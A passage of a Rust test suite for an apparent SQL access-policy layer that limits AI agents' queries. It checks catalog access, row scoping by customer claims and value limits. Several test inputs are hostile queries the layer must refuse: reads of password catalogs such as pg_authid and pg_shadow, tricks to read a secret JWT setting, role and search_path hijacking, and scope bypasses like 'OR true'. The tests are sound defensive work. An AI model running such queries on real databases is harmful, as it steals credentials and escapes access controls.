            "allow",
        ),
        // \db
        (
            A,
            "SELECT spcname AS \"Name\", pg_catalog.pg_get_userbyid(spcowner) AS \"Owner\", pg_catalog.pg_tablespace_location(oid) AS \"Location\" FROM pg_catalog.pg_tablespace ORDER BY 1",
            "allow",
        ),
        // \sf
        (
            A,
            "SELECT 'lower(text)'::pg_catalog.regprocedure::pg_catalog.oid",
            "allow",
        ),
        (A, "SELECT pg_catalog.pg_get_functiondef(870)", "allow"),
        // \do
        (
            A,
            "SELECT n.nspname as \"Schema\", o.oprname AS \"Name\", CASE WHEN o.oprkind='l' THEN NULL ELSE pg_catalog.format_type(o.oprleft, NULL) END AS \"Left arg type\", CASE WHEN o.oprkind='r' THEN NULL ELSE pg_catalog.format_type(o.oprright, NULL) END AS \"Right arg type\", pg_catalog.format_type(o.oprresult, NULL) AS \"Result type\", coalesce(pg_catalog.obj_description(o.oid, 'pg_operator'), pg_catalog.obj_description(o.oprcode, 'pg_proc')) AS \"Description\" FROM pg_catalog.pg_operator o LEFT JOIN pg_catalog.pg_namespace n ON n.oid = o.oprnamespace WHERE n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_operator_is_visible(o.oid) ORDER BY 1, 2, 3, 4",
            "allow",
        ),
        // \dy
        (
            A,
            "SELECT evtname as \"Name\", evtevent as \"Event\", pg_catalog.pg_get_userbyid(e.evtowner) as \"Owner\", case evtenabled when 'O' then 'enabled'  when 'R' then 'replica'  when 'A' then 'always'  when 'D' then 'disabled' end as \"Enabled\", e.evtfoid::pg_catalog.regproc as \"Function\", pg_catalog.array_to_string(array(select x from pg_catalog.unnest(evttags) as t(x)), ', ') as \"Tags\" FROM pg_catalog.pg_event_trigger e ORDER BY 1",
            "allow",
        ),
        // \dF
        (
            A,
            "SELECT n.nspname as \"Schema\", c.cfgname as \"Name\", pg_catalog.obj_description(c.oid, 'pg_ts_config') as \"Description\" FROM pg_catalog.pg_ts_config c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.cfgnamespace WHERE pg_catalog.pg_ts_config_is_visible(c.oid) ORDER BY 1, 2",
            "allow",
        ),
        // \dd (also reads tableoid)
        (
            A,
            "SELECT DISTINCT tt.nspname AS \"Schema\", tt.name AS \"Name\", tt.object AS \"Object\", d.description AS \"Description\" FROM ( SELECT pgc.oid as oid, pgc.tableoid AS tableoid, n.nspname as nspname, CAST(pgc.conname AS pg_catalog.text) as name, CAST('table constraint' AS pg_catalog.text) as object FROM pg_catalog.pg_constraint pgc JOIN pg_catalog.pg_class c ON c.oid = pgc.conrelid LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) UNION ALL SELECT pgc.oid as oid, pgc.tableoid AS tableoid, n.nspname as nspname, CAST(pgc.conname AS pg_catalog.text) as name, CAST('domain constraint' AS pg_catalog.text) as object FROM pg_catalog.pg_constraint pgc JOIN pg_catalog.pg_type t ON t.oid = pgc.contypid LEFT JOIN pg_catalog.pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_type_is_visible(t.oid) UNION ALL SELECT o.oid as oid, o.tableoid as tableoid, n.nspname as nspname, CAST(o.opcname AS pg_catalog.text) as name, CAST('operator class' AS pg_catalog.text) as object FROM pg_catalog.pg_opclass o JOIN pg_catalog.pg_am am ON o.opcmethod = am.oid JOIN pg_catalog.pg_namespace n ON n.oid = o.opcnamespace AND n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_opclass_is_visible(o.oid) UNION ALL SELECT opf.oid as oid, opf.tableoid as tableoid, n.nspname as nspname, CAST(opf.opfname AS pg_catalog.text) AS name, CAST('operator family' AS pg_catalog.text) as object FROM pg_catalog.pg_opfamily opf JOIN pg_catalog.pg_am am ON opf.opfmethod = am.oid JOIN pg_catalog.pg_namespace n ON opf.opfnamespace = n.oid AND n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_opfamily_is_visible(opf.oid) UNION ALL SELECT r.oid as oid, r.tableoid as tableoid, n.nspname as nspname, CAST(r.rulename AS pg_catalog.text) as name, CAST('rule' AS pg_catalog.text) as object FROM pg_catalog.pg_rewrite r JOIN pg_catalog.pg_class c ON c.oid = r.ev_class LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE r.rulename != '_RETURN' AND n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) UNION ALL SELECT t.oid as oid, t.tableoid as tableoid, n.nspname as nspname, CAST(t.tgname AS pg_catalog.text) as name, CAST('trigger' AS pg_catalog.text) as object FROM pg_catalog.pg_trigger t JOIN pg_catalog.pg_class c ON c.oid = t.tgrelid LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ) AS tt JOIN pg_catalog.pg_description d ON (tt.oid = d.objoid AND tt.tableoid = d.classoid AND d.objsubid = 0) ORDER BY 1, 2, 3",
            "allow",
        ),
        // \dC
        (
            A,
            "SELECT pg_catalog.format_type(castsource, NULL) AS \"Source type\", pg_catalog.format_type(casttarget, NULL) AS \"Target type\", CASE WHEN c.castmethod = 'b' THEN '(binary coercible)' WHEN c.castmethod = 'i' THEN '(with inout)' ELSE p.proname END AS \"Function\", CASE WHEN c.castcontext = 'e' THEN 'no' WHEN c.castcontext = 'a' THEN 'in assignment' ELSE 'yes' END AS \"Implicit?\" FROM pg_catalog.pg_cast c LEFT JOIN pg_catalog.pg_proc p ON c.castfunc = p.oid LEFT JOIN pg_catalog.pg_type ts ON c.castsource = ts.oid LEFT JOIN pg_catalog.pg_namespace ns ON ns.oid = ts.typnamespace LEFT JOIN pg_catalog.pg_type tt ON c.casttarget = tt.oid LEFT JOIN pg_catalog.pg_namespace nt ON nt.oid = tt.typnamespace WHERE ( (true  AND pg_catalog.pg_type_is_visible(ts.oid) ) OR (true  AND pg_catalog.pg_type_is_visible(tt.oid) ) ) ORDER BY 1, 2",
            "allow",
        ),
        // \dc
        (
            A,
            "SELECT n.nspname AS \"Schema\", c.conname AS \"Name\", pg_catalog.pg_encoding_to_char(c.conforencoding) AS \"Source\", pg_catalog.pg_encoding_to_char(c.contoencoding) AS \"Destination\", CASE WHEN c.condefault THEN 'yes' ELSE 'no' END AS \"Default?\" FROM pg_catalog.pg_conversion c JOIN pg_catalog.pg_namespace n ON n.oid = c.connamespace WHERE true AND n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' AND pg_catalog.pg_conversion_is_visible(c.oid) ORDER BY 1, 2",
            "allow",
        ),
        // \dconfig: current_setting of the names pg_settings lists reads
        // no more than pg_settings itself.
        (
            A,
            "SELECT s.name AS \"Parameter\", pg_catalog.current_setting(s.name) AS \"Value\" FROM pg_catalog.pg_settings s WHERE s.source <> 'default' AND s.setting IS DISTINCT FROM s.boot_val ORDER BY 1",
            "allow",
        ),
        // pgjdbc 42.5 getPrimaryKeys
        (
            A,
            "SELECT result.TABLE_CAT, result.TABLE_SCHEM, result.TABLE_NAME, result.COLUMN_NAME, result.KEY_SEQ, result.PK_NAME FROM (SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, ct.relname AS TABLE_NAME, a.attname AS COLUMN_NAME, (information_schema._pg_expandarray(i.indkey)).n AS KEY_SEQ, ci.relname AS PK_NAME, information_schema._pg_expandarray(i.indkey) AS KEYS, a.attnum AS A_ATTNUM FROM pg_catalog.pg_class ct JOIN pg_catalog.pg_attribute a ON (ct.oid = a.attrelid) JOIN pg_catalog.pg_namespace n ON (ct.relnamespace = n.oid) JOIN pg_catalog.pg_index i ON ( a.attrelid = i.indrelid) JOIN pg_catalog.pg_class ci ON (ci.oid = i.indexrelid) WHERE true  AND ct.relname = E'orders' AND i.indisprimary  ) result where  result.A_ATTNUM = (result.KEYS).x  ORDER BY result.table_name, result.pk_name, result.key_seq",
            "allow",
        ),
        // pgjdbc 42.5 getIndexInfo
        (
            A,
            "SELECT tmp.TABLE_CAT, tmp.TABLE_SCHEM, tmp.TABLE_NAME, tmp.NON_UNIQUE, tmp.INDEX_QUALIFIER, tmp.INDEX_NAME, tmp.TYPE, tmp.ORDINAL_POSITION, trim(both '\"' from pg_catalog.pg_get_indexdef(tmp.CI_OID, tmp.ORDINAL_POSITION, false)) AS COLUMN_NAME, CASE tmp.AM_NAME WHEN 'btree' THEN CASE tmp.I_INDOPTION[tmp.ORDINAL_POSITION - 1] & 1::smallint WHEN 1 THEN 'D' ELSE 'A' END ELSE NULL END AS ASC_OR_DESC, tmp.CARDINALITY, tmp.PAGES, tmp.FILTER_CONDITION FROM (SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, ct.relname AS TABLE_NAME, NOT i.indisunique AS NON_UNIQUE, NULL AS INDEX_QUALIFIER, ci.relname AS INDEX_NAME, CASE i.indisclustered WHEN true THEN 1 ELSE CASE am.amname WHEN 'hash' THEN 2 ELSE 3 END END AS TYPE, (information_schema._pg_expandarray(i.indkey)).n AS ORDINAL_POSITION, ci.reltuples AS CARDINALITY, ci.relpages AS PAGES, pg_catalog.pg_get_expr(i.indpred, i.indrelid) AS FILTER_CONDITION, ci.oid AS CI_OID, i.indoption AS I_INDOPTION, am.amname AS AM_NAME FROM pg_catalog.pg_class ct JOIN pg_catalog.pg_namespace n ON (ct.relnamespace = n.oid) JOIN pg_catalog.pg_index i ON (ct.oid = i.indrelid) JOIN pg_catalog.pg_class ci ON (ci.oid = i.indexrelid) JOIN pg_catalog.pg_am am ON (ci.relam = am.oid) WHERE true  AND n.nspname = E'public' AND ct.relname = E'orders') AS tmp ORDER BY NON_UNIQUE, TYPE, INDEX_NAME, ORDINAL_POSITION",
            "allow",
        ),
        // pgjdbc 42.5 getBestRowIdentifier
        (
            A,
            "SELECT a.attname, a.atttypid, atttypmod FROM pg_catalog.pg_class ct JOIN pg_catalog.pg_attribute a ON (ct.oid = a.attrelid) JOIN pg_catalog.pg_namespace n ON (ct.relnamespace = n.oid) JOIN (SELECT i.indexrelid, i.indrelid, i.indisprimary, information_schema._pg_expandarray(i.indkey) AS keys FROM pg_catalog.pg_index i) i ON (a.attnum = (i.keys).x AND a.attrelid = i.indrelid) WHERE true  AND n.nspname = E'public' AND ct.relname = E'orders' AND i.indisprimary  ORDER BY a.attnum",
            "allow",
        ),
        // Each new name on its own.
        (A, "SELECT pg_get_function_sqlbody(870)", "allow"),
        (
            A,
            "SELECT has_database_privilege('shop', 'CONNECT')",
            "allow",
        ),
        (A, "SELECT pg_database_size('shop')", "allow"),
        (A, "SELECT pg_tablespace_location(1663)", "allow"),
        (A, "SELECT pg_catalog.pg_get_functiondef(870)", "allow"),
        (A, "SELECT pg_operator_is_visible(15)", "allow"),
        (A, "SELECT pg_opfamily_is_visible(1976)", "allow"),
        (A, "SELECT pg_conversion_is_visible(1)", "allow"),
        (A, "SELECT pg_ts_config_is_visible(3748)", "allow"),
        (
            A,
            "SELECT * FROM information_schema._pg_expandarray(ARRAY[1, 2])",
            "allow",
        ),
        (A, "SELECT evtname FROM pg_event_trigger", "allow"),
        (A, "SELECT cfgname FROM pg_catalog.pg_ts_config", "allow"),
        (A, "SELECT opfname FROM pg_opfamily", "allow"),
        (A, "SELECT castsource FROM pg_cast", "allow"),
        (A, "SELECT conname FROM pg_conversion", "allow"),
        // Only the profile's names: a lookalike in another schema is not it.
        (
            A,
            "SELECT public._pg_expandarray(ARRAY[1])",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT pg_catalog._pg_expandarray(ARRAY[1])",
            "function_not_allowed",
        ),
        // current_setting of a computed name stays refused: it could name a
        // custom setting that pg_settings does not list.
        (
            A,
            "SELECT current_setting(s.name) FROM (SELECT 'app.jwt_secret' AS name) s",
            "deny",
        ),
        (
            A,
            "WITH pg_settings AS (SELECT 'app.jwt_secret' AS name) SELECT current_setting(s.name) FROM pg_settings s",
            "deny",
        ),
        (
            A,
            "SELECT current_setting(s.name || '') FROM pg_catalog.pg_settings s",
            "deny",
        ),
        // A column alias could rename another column of pg_settings to name.
        (
            A,
            "SELECT current_setting(s.name) FROM pg_catalog.pg_settings s(n, name)",
            "deny",
        ),
        (
            A,
            "SELECT current_setting(s.setting) FROM pg_catalog.pg_settings s",
            "deny",
        ),
        (
            A,
            "SELECT set_config(s.name, 'x', false) FROM pg_catalog.pg_settings s",
            "deny",
        ),
        // Another agent with the driver profile gets the same.
        (T, "SELECT pg_catalog.pg_get_functiondef(870)", "allow"),
        // Credential catalogs stay refused.
        (A, "SELECT * FROM pg_authid", "credential_catalog"),
        (
            A,
            "SELECT a.ctid FROM pg_catalog.pg_authid a",
            "credential_catalog",
        ),
        (
            A,
            "SELECT * FROM pg_catalog.pg_shadow",
            "credential_catalog",
        ),
        (A, "SELECT * FROM pg_user_mapping", "credential_catalog"),
        (
            A,
            "SELECT * FROM pg_catalog.pg_user_mappings",
            "credential_catalog",
        ),
        (A, "SELECT * FROM pg_db_role_setting", "credential_catalog"),
        (
            A,
            "SELECT d.datname FROM pg_database d JOIN pg_db_role_setting s ON s.setdatabase = d.oid",
            "credential_catalog",
        ),
        (A, "SELECT * FROM pg_stat_activity", "catalog_denied"),
    ]);
}

/// set_config and current_setting called as table functions in FROM are
/// judged like SET and SHOW, as in expressions (they were not judged at
/// all there: `FROM set_config('search_path', …)` passed).
#[test]
fn setting_functions_in_from() {
    check(&[
        (
            A,
            "SELECT * FROM set_config('search_path', 'evil', false)",
            "setting_pinned",
        ),
        (
            A,
            "SELECT x FROM pg_catalog.set_config('role', 'postgres', false) AS x",
            "setting_pinned",
        ),
        (
            A,
            "SELECT * FROM orders o, LATERAL set_config('search_path', o.status, false) AS x",
            "setting_pinned",
        ),
        (
            A,
            "SELECT * FROM orders o CROSS JOIN set_config(o.status, 'x', false) AS x",
            "deny",
        ),
        (
            A,
            "SELECT * FROM current_setting('app.jwt_secret')",
            "setting_denied",
        ),
        (
            A,
            "SELECT * FROM set_config('application_name', 'x', false)",
            "allow",
        ),
        (A, "SELECT * FROM current_setting('timezone')", "allow"),
        (
            A,
            "SELECT * FROM pg_catalog.pg_settings s, current_setting(s.name) AS v",
            "allow",
        ),
    ]);
}

/// Row scoping with claims (`scope = { customer_id = "{{claims.customer_id}}" }`
/// on orders for the test agent `scoped`): only top-level AND conjuncts of
/// each use's own WHERE count.
#[test]
fn row_scoping_with_claims() {
    use common::policy::outcome_with_claims;
    let c42 = [("customer_id", "42")];
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case<'_>] = &[
        ("SELECT * FROM orders WHERE customer_id = 42", &c42, "allow"),
        (
            "SELECT * FROM orders WHERE customer_id = '42'",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42::bigint",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE (customer_id = 42)",
            &c42,
            "allow",
        ),
        ("SELECT * FROM orders WHERE 42 = customer_id", &c42, "allow"),
        (
            "SELECT id FROM orders o WHERE o.customer_id = 42 AND o.status = 'paid'",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 AND (status = 'paid' OR status = 'shipped')",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 AND id IN (SELECT order_id FROM order_items)",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 43",
            &c42,
            "scope_violation",
        ),
        ("SELECT * FROM orders", &c42, "scope_missing"),
        (
            "SELECT * FROM orders WHERE customer_id = 42 OR true",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE NOT (customer_id <> 42)",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id > 41 AND customer_id < 43",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = id",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42, 43)",
            &c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42)",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42, 042)",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY(ARRAY[42])",
            &c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY(ARRAY[42, 7])",
            &c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id NOT IN (43)",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (SELECT 42)",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = $1",
            &c42,
            "scope_parameter",
        ),
        (
            "SELECT * FROM orders o JOIN orders p ON p.id = o.id WHERE o.customer_id = 42",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 UNION ALL SELECT * FROM orders WHERE customer_id = 43",
            &c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM customers c LEFT JOIN orders o ON o.customer_id = 42",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT customer_id, count(*) FROM orders GROUP BY customer_id HAVING customer_id = 42",
            &c42,
            "scope_missing",
        ),
        (
            "WITH x AS (SELECT * FROM orders) SELECT * FROM x WHERE customer_id = 42",
            &c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM (SELECT * FROM orders WHERE customer_id = 42) s",
            &c42,
            "allow",
        ),
        (
            "SELECT (SELECT count(*) FROM orders) FROM customers WHERE id = 42",
            &c42,
            "scope_missing",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = 42 AND id = 7",
            &c42,
            "allow",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE id = 7",
            &c42,
            "scope_missing",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = 43",
            &c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US')",
            &c42,
            "allow",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US'), (43, 'US')",
            &c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders (shipping_country) VALUES ('US')",
            &c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42 + 1, 'US')",
            &c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) SELECT 42, 'US'",
            &c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) SELECT customer_id, 'US' FROM orders WHERE customer_id = 43",
            &c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders VALUES (DEFAULT, 42, 'pending', 0, 'USD', 'US')",
            &c42,
            "allow",
        ),
        (
            "INSERT INTO orders VALUES (DEFAULT, 43, 'pending', 0, 'USD', 'US')",
            &c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES ($1, 'US')",
            &c42,
            "scope_parameter",
        ),
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid'",
            &c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE orders.customer_id = 42",
            &c42,
            "allow",
        ),
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET customer_id = 43 WHERE orders.customer_id = 42",
            &c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders SET customer_id = 42 WHERE customer_id = 42",
            &c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders SET (status, customer_id) = ('paid', 43) WHERE customer_id = 42",
            &c42,
            "scope_column_write",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42",
            &[],
            "claim_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42",
            &[("tenant", "x")],
            "claim_missing",
        ),
        ("SELECT id FROM customers", &[], "allow"),
    ];
    let mut failures = Vec::new();
    for (sql, claims, expected) in cases {
        let got = outcome_with_claims("scoped", sql, claims);
        if got != *expected {
            failures.push(format!(
                "  {sql} {claims:?}\n      expected {expected}, got {got}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Value limits (tests/rules/scoped.toml): orders.total_cents in [0, 50000],
/// orders.status in a set, customers.email at example.com; checked on
/// INSERT values and UPDATE SET values.
#[test]
fn value_limits() {
    use common::policy::outcome_with_claims;
    let c = [("customer_id", "42")];
    let w = "WHERE customer_id = 42";
    let cases: Vec<(String, &str)> = vec![
        (format!("UPDATE orders SET total_cents = 50000 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 0 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 50001 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = -1 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = 5e4 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 5.00001e4 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = 49999.99 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = '500' {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 'lots' {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = 500::int {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = total_cents + 1 {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET total_cents = (SELECT 1) {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET total_cents = NULL {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET status = 'paid' {w}"), "allow"),
        (format!("UPDATE orders SET status = 'shipped' {w}"), "value_limit"),
        (format!("UPDATE orders SET status = 'PAID' {w}"), "value_limit"),
        (format!("UPDATE orders SET status = lower('PAID') {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET notes = 'anything' {w}"), "allow"),
        (format!("UPDATE orders SET (status, total_cents) = ('paid', 60000) {w}"), "value_limit"),
        ("INSERT INTO orders (customer_id, shipping_country, total_cents) VALUES (42, 'US', 100)".into(), "allow"),
        ("INSERT INTO orders (customer_id, shipping_country, total_cents) VALUES (42, 'US', 60000)".into(), "value_limit"),
        ("INSERT INTO orders (customer_id, shipping_country, total_cents) VALUES (42, 'US', 1), (42, 'US', 50001)".into(), "value_limit"),
        ("INSERT INTO orders (customer_id, shipping_country, status) VALUES (42, 'US', 'refunded')".into(), "value_limit"),
        ("INSERT INTO orders (customer_id, shipping_country, total_cents) VALUES (42, 'US', 1 + 1)".into(), "value_unverifiable"),
        ("INSERT INTO orders (customer_id, shipping_country, total_cents) SELECT 42, 'US', 1".into(), "scope_unverifiable|value_unverifiable"),
        ("UPDATE customers SET email = 'ava@example.com' WHERE id = 1".into(), "allow"),
        ("UPDATE customers SET email = 'ava@EXAMPLE.COM' WHERE id = 1".into(), "allow"),
        ("UPDATE customers SET email = 'ava@evil.com' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'ava@example.com.evil.com' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = '@example.com' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'no-at-sign' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET full_name = 'x' WHERE id = 1".into(), "allow"),
    ];
    let mut failures = Vec::new();
    for (sql, expected) in &cases {
        let got = outcome_with_claims("scoped", sql, &c);
        if !expected.split('|').any(|e| e == got) {
            failures.push(format!("  {sql}\n      expected {expected}, got {got}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// support-bot may refund up to 500.00 (rules/support-bot.toml).
#[test]
fn support_bot_refund_limit() {
    check(&[
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 50000, 'late', 'kpatel')",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 50001, 'late', 'kpatel')",
            "value_limit",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 0, 'late', 'kpatel')",
            "value_limit",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 1e6, 'late', 'kpatel')",
            "value_limit",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'a', 'k'), (2, 99999, 'b', 'k')",
            "value_limit",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100 * 1000, 'late', 'kpatel')",
            "value_unverifiable",
        ),
    ]);
}

/// More row scoping for the test agent `scoped` (orders scoped by
/// `customer_id = {{claims.customer_id}}`): every use of orders (joins,
/// subqueries, CTEs, set operations, writes) must be pinned in its own
/// WHERE by a top-level AND conjunct with an evident value. Outcomes use
/// the `matches` syntax (`a|b`, `deny`). PostgreSQL 15 semantics were
/// checked where noted.
#[test]
fn more_row_scoping() {
    use common::policy::outcome_with_claims;
    let c42: &[(&str, &str)] = &[("customer_id", "42")];
    let c43: &[(&str, &str)] = &[("customer_id", "43")];
    let c042: &[(&str, &str)] = &[("customer_id", "042")];
    let none: &[(&str, &str)] = &[];
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case<'_>] = &[
        // Aliases, with and without AS, quoted, column aliases.
        (
            "SELECT * FROM orders AS o WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders o WHERE o.customer_id = 43",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders \"O\" WHERE \"O\".customer_id = 42",
            c42,
            "allow",
        ),
        // "O" is not o: Postgres reports a missing FROM-clause entry.
        (
            "SELECT * FROM orders \"O\" WHERE o.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders AS O WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        // The alias hides the table name (Postgres: invalid reference).
        (
            "SELECT * FROM orders o WHERE orders.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM public.orders WHERE orders.customer_id = 42",
            c42,
            "allow",
        ),
        // Correct Postgres, but a three-part reference is not pinned: a
        // conservative denial is acceptable.
        (
            "SELECT * FROM public.orders WHERE public.orders.customer_id = 42",
            c42,
            "allow|scope_missing",
        ),
        ("SELECT * FROM orders AS o(x, y) WHERE y = 42", c42, "allow"),
        (
            "SELECT * FROM orders AS o(a, b) WHERE o.b = 42",
            c42,
            "allow",
        ),
        // o(customer_id) renames id; the real customer_id keeps its name,
        // so Postgres reports customer_id as ambiguous.
        (
            "SELECT * FROM orders AS o(customer_id) WHERE customer_id = 42",
            c42,
            "scope_missing",
        ),
        // Swapped names: customer_id is orders.id here.
        (
            "SELECT * FROM orders AS o(customer_id, id) WHERE customer_id = 42",
            c42,
            "scope_missing",
        ),
        // Case and quoting of column and table names.
        ("SELECT * FROM orders WHERE CUSTOMER_ID = 42", c42, "allow"),
        (
            "SELECT * FROM orders WHERE \"customer_id\" = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE \"Customer_Id\" = 42",
            c42,
            "scope_missing",
        ),
        ("SELECT * FROM ORDERS WHERE Customer_Id = 42", c42, "allow"),
        (
            "SELECT * FROM \"orders\" WHERE \"orders\".\"customer_id\" = 42",
            c42,
            "allow",
        ),
        // Joins: each use of orders pinned in its own WHERE.
        (
            "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id AND o.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders o JOIN customers c ON o.customer_id = c.id",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders o LEFT JOIN orders p ON p.id = o.id AND p.customer_id = 42 WHERE o.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders o RIGHT JOIN customers c ON c.id = o.customer_id WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM customers c RIGHT JOIN orders o ON o.customer_id = c.id AND c.id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders o FULL JOIN orders p ON p.id = o.id WHERE o.customer_id = 42 AND p.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders o FULL JOIN orders p ON p.id = o.id WHERE o.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders CROSS JOIN customers WHERE customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders o CROSS JOIN orders p WHERE o.customer_id = 42 AND p.customer_id = 43",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders o, orders p WHERE o.customer_id = 42 AND p.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders o, orders p WHERE o.customer_id = 42 AND p.customer_id = o.customer_id",
            c42,
